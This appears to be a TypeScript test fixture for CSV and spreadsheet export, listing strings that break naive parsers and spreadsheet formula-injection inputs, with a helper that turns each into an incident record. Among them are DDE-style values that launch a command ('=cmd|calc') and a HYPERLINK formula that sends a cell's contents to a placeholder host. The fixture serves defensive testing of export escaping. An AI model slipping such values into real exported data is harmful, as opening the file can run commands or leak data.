import type { Told } from '../registers/registers-fixture.js';

/** Texts that CSV, spreadsheets and careless readers break. */
export const HOSTILE_TEXTS = [
  'a,b',
  'say "no"',
  '"',
  '""',
  'two\nlines',
  'two\r\nlines',
  'a\rb',
  ' blanks around ',
  '\ttab first',
  '字节跳动，“剪映”',
  '🎬👩‍👩‍👧‍👦 𠮷',
  'e\u0301 \u200b \u202e',
  '\u0001\u0007\u001b[31m\u007f\u0085',
  '\ufeffmark',
  '007',
  '-0012',
  '110108413760701250055',
  '123456789012345678901',
  '1e21',
  '1.10',
  'TRUE',
  'NULL',
  '\\N',
  '\\.',
  '=cmd|calc!A1',
  '2026-02-12',
] as const;

/** What a spreadsheet may run, with blanks before it or without, in either width. */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://example.org/?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '\ufeff=1+1',
  '";=1+1',
  '=1+1\n=2+2',
] as const;

/** One incident for each text, with the text as its description. */
export function incidentsOf(company: string, texts: readonly string[]): readonly Told[] {
  return texts.map((description, index) => ({
    type: 'incident.occurred',
    subject: `companies/${company}`,
    time: '2026-02-12T09:00:00+08:00',
    data: { incident: `text-${String(index).padStart(3, '0')}`, description },
  }));
}
